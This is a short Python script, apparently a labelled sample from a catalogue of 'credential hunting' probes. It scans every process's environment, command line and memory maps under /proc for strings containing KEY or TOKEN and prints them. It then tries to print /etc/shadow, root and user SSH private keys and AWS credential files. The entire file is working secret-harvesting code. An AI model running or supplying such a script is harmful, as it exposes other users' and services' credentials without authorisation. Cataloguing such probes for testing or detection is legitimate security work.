# class: credential hunting; possible: low medium; needs: data; style: environments of other processes
import os

for pid in filter(str.isdigit, os.listdir("/proc")):
    for what in ("environ", "cmdline", "maps"):
        try:
            data = open(f"/proc/{pid}/{what}", "rb").read()
            if b"KEY" in data or b"TOKEN" in data:
                print(pid, what, data[:200])
        except OSError as e:
            print(e)
for path in ("/etc/shadow", "/root/.ssh/id_rsa", "/root/.aws/credentials", "/home/user/.ssh/id_rsa"):
    try:
        print(open(path).read())
    except OSError as e:
        print(e)
